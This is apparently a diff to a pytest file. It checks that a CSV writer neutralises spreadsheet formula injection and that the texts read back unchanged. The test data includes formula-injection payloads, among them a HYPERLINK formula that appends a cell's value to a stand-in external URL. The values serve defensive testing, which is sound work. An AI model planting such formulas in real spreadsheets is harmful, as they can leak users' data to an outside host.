@@ -4,11 +4,13 @@ from __future__ import annotations
 
 import csv
 import io
+from pathlib import Path
 
 import polars as pl
 import pytest
 
-from tasks.texts.table_files import write_safe_csv
+from schemas.errors import UsageError
+from tasks.texts.table_files import read_table, restore_text, write_safe_csv
 
 FORMULAS = [
     '=HYPERLINK("http://x.example?"&A1,"click")',
@@ -27,6 +29,8 @@ FORMULAS = [
     "＠SUM(A1)",
     "- a list",
     "--1",
+    "'=1",
+    "''-1.5",
 ]
 PLAIN = [
     "-1.5",
@@ -37,7 +41,7 @@ PLAIN = [
     "-3%",
     "1-2",
     "a=b",
-    "'=1",
+    "'a'",
     "",
     "x@y.example",
     "答案：=1",
@@ -59,6 +63,33 @@ def test_what_a_spreadsheet_would_run_gets_an_apostrophe_in_front(text: str) -> 
 @pytest.mark.parametrize("text", PLAIN)
 def test_other_texts_and_numbers_as_text_are_written_exactly(text: str) -> None:
     assert read_back(write_safe_csv(pl.DataFrame({"n": [1], "text": [text]}))) == [["n", "text"], ["1", text]]
+
+
+@pytest.mark.parametrize("text", [*FORMULAS, *PLAIN, "'\x1f=1", "\x1c-a", "'\u200b=1"])
+def test_who_reads_it_has_the_texts_and_names_as_they_were(text: str, tmp_path: Path) -> None:
+    frame = pl.DataFrame({"n": ["a"], text: [text]})
+    (path := tmp_path / "texts.csv").write_text(write_safe_csv(frame), "utf-8", newline="")
+    if text:
+        assert read_table(path, as_text=True).rows(named=True) == [{"n": "a", text: text}]
+        assert read_table(path, as_text={text}).rows(named=True) == [{"n": "a", text: text}]
+    assert [[restore_text(cell) for cell in row] for row in read_back(path.read_bytes().decode())] == [
+        ["n", text],
+        ["a", text],
+    ]
+
+
+@pytest.mark.parametrize(
+    ("text", "said"),
+    [
+        ("a,b\n1,2\n3,4,5\n", "line 3: 3 cells below 2 names of columns"),
+        ('a,b\n"1,2\n', "line 2: unexpected end of data. Close the quotes"),
+        ("a;b\n1;2;3\n", "a cell that holds ';' in quotes"),
+    ],
+)
+def test_a_row_that_does_not_fit_is_named(text: str, said: str, tmp_path: Path) -> None:
+    (path := tmp_path / "rows.csv").write_text(text)
+    with pytest.raises(UsageError, match=said):
+        read_table(path)
 
 
 def test_numbers_nulls_and_categories_keep_their_form() -> None:
